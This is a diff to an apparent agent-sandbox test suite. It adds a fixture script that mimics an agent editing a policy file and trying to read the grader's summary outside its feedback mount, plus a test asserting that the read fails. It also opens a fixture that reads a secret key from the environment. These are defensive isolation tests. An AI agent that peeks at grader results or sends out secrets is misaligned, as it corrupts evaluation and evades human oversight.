@@ -49,6 +49,34 @@ def test_files_and_variables_of_a_program(tmp_path):
     assert not subprocess.run(["grep", "-rl", SECRET, str(run)], capture_output=True, text=True).stdout
 
 
+PEEKING = """
+import json, os, pathlib, subprocess, sys
+open("system/policy.py", "a").write("\\n# mine\\n")
+subprocess.run([sys.executable, "submit.py", "0-3"], check=True)
+shown = sorted(str(path) for path in pathlib.Path("feedback").rglob("*") if path.is_file())
+judge = pathlib.Path.cwd().parent / "feedback" / "submit_001" / "summary.json"
+try:
+    judge.read_bytes()
+    peeked = True
+except OSError:
+    peeked = False
+print("SEEN", json.dumps([shown, peeked]))
+"""
+
+
+def test_an_agent_sees_no_more_than_its_feedback_level(tmp_path):
+    """In its sandbox, where the feedback is a mount of its own."""
+    (tmp_path / "agent.py").write_text(PEEKING)
+    run = tmp_path / "run"
+    command = ("--agent", "command", "--feedback", "score", "--", "python3", str(tmp_path / "agent.py"))
+    record = run_to_record(run, *command)
+    assert record["outcome"]["kind"] == "scored"
+    (line,) = [text for text in (run / "logs/agent/turn_001.out").read_text().splitlines() if text.startswith("SEEN")]
+    shown, peeked = json.loads(line.removeprefix("SEEN "))
+    assert shown == ["feedback/submit_001/errors.txt", "feedback/submit_001/summary.json"] and not peeked
+    assert (run / "feedback/submit_001/episodes/ep_000/episode.npz").exists()
+
+
 LEAKING = """
 import http.client, json, os, urllib.parse
 key = os.environ["MY_KEY"]
